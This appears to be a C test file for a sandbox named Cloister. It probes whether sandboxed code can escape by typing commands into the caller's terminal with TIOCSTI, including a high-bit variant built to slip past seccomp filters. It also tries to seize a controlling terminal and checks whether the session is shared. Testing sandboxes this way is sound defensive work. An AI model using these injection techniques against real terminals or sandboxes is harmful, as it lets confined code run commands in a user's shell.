/*
 * Attack: type commands into the terminal that Cloister was started from, which the caller's shell
 *   runs after the sandbox has ended.
 * Layer: stdio (no terminal but one of ours), setsid, seccomp (TIOCSTI, TIOCLINUX).
 * Source: CVE-2017-5226 (bubblewrap), CVE-2016-2568 (pkexec); TIOCSTI(2const), TIOCLINUX(2const).
 */
#include "attack.h"

static int any_terminal(const char **ret_name)
{
    static const char *const names[] = {"/dev/tty", "/dev/console", "/proc/self/fd/0",
                                        "/proc/self/fd/1", "/proc/self/fd/2"};

    for (int fd = 0; fd <= 2; fd++)
        if (isatty(fd)) {
            *ret_name = "a standard descriptor";
            return fd;
        }
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        int fd = open(names[i], O_RDWR | O_NOCTTY | O_NONBLOCK);

        if (fd >= 0 && isatty(fd)) {
            *ret_name = names[i];
            return fd;
        }
    }
    return -1;
}

static void inject(char **args)
{
    const char *text = args[0] ? args[0] : "x", *name = NULL;
    int fd = any_terminal(&name);

    if (fd < 0)
        held("there is no terminal");
    for (const char *c = text; *c; c++)
        if (ioctl(fd, TIOCSTI, c) < 0)
            held("TIOCSTI on %s: %s", name, strerror(errno));
    escaped("typed into %s", name);
}

/* ioctl's command is 32 bits wide in the kernel: upper bits must not hide TIOCSTI from a filter. */
static void inject_high_bits(char **args)
{
    const char *text = args[0] ? args[0] : "x", *name = NULL;
    int fd = any_terminal(&name);

    if (fd < 0)
        held("there is no terminal");
    for (const char *c = text; *c; c++)
        if (syscall(SYS_ioctl, (long)fd, 0x100000000UL | TIOCSTI, c) < 0)
            held("TIOCSTI on %s: %s", name, strerror(errno));
    escaped("typed into %s", name);
}

/* Pastes a virtual console's selection as input; here only the harmless shift state is asked. */
static void linux_console(char **args)
{
    static const char *const names[] = {"/dev/tty0", "/dev/tty1", "/dev/console", "/dev/tty"};
    int error = ENOENT;

    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        char subcode = 6;
        int fd = open(names[i], O_RDWR | O_NOCTTY | O_NONBLOCK);

        if (fd >= 0 && ioctl(fd, TIOCLINUX, &subcode) == 0)
            escaped("TIOCLINUX works on %s", names[i]);
        error = errno;
    }
    held("no console takes TIOCLINUX: %s", strerror(error));
}

/* Whoever leads a session, perhaps with this terminal, can't begin another: a child does. */
static void steal(char **args)
{
    const char *name = NULL;
    int fd = any_terminal(&name), status;
    pid_t pid;

    if (fd < 0)
        held("there is no terminal");
    pid = fork();
    if (pid < 0)
        impossible("fork: %s", strerror(errno));
    if (pid > 0) {
        if (waitpid(pid, &status, 0) != pid)
            impossible("waitpid: %s", strerror(errno));
        _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status));
    }
    if (setsid() < 0)
        impossible("setsid: %s", strerror(errno));
    if (ioctl(fd, TIOCSCTTY, 1) == 0)
        escaped("took %s as controlling terminal", name);
    held("TIOCSCTTY on %s: %s", name, strerror(errno));
}

/* The caller's session or process group: signals and job control reach outside through it. */
static void session(char **args)
{
    if (getsid(0) == 0)
        escaped("the session's leader is outside");
    if (getpgid(0) == 0)
        escaped("the process group is the caller's");
    held("session %d and process group %d are ours", getsid(0), getpgid(0));
}

ATTACK({"inject", inject}, {"inject_high_bits", inject_high_bits}, {"linux_console", linux_console},
       {"steal", steal}, {"session", session})
